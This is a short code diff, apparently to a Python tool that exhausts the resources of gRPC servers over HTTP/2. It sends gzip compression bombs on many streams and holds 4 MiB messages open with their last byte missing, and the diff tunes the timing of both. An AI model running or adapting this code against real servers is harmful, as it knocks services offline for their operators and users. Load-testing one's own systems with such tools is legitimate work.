@@ -90,18 +90,22 @@ class Holder:
 
 def hold_bombs(holder: Holder, token: str, calls: int, *, is_complete: bool) -> None:
     message = bomb()
-    for _ in range(calls):
+    holder.push(0.5)  # and learn what the server grants
+    for n in range(calls):
         stream = holder.begin(token, grpc_encoding="gzip")
         holder.h2.send_data(stream, message, end_stream=is_complete)
+        if n % 10 == 9:
+            holder.push(0.02)
     holder.push(0.5)
 
 
 def hold_messages(holder: Holder, token: str, calls: int, mib: int) -> None:
     """Messages of 4 MiB, each of which lacks its last octet."""
+    holder.push(0.5)
     streams = {holder.begin(token): 0 for _ in range(calls)}
     message = b"\0" + (4 * MIB - 64).to_bytes(4) + bytes(4 * MIB - 65)
     idle = 0
-    while idle < 3 and holder.sent < mib * MIB:
+    while idle < 5 and holder.sent < mib * MIB:
         before = holder.sent
         for stream, at in list(streams.items()):
             try:
@@ -111,7 +115,7 @@ def hold_messages(holder: Holder, token: str, calls: int, mib: int) -> None:
                     streams[stream] += size
             except H2Error:  # the call was refused
                 del streams[stream]
-        holder.push(0.05)
+        holder.push(0.1)
         idle = idle + 1 if holder.sent - before < 1000 else 0
 
 
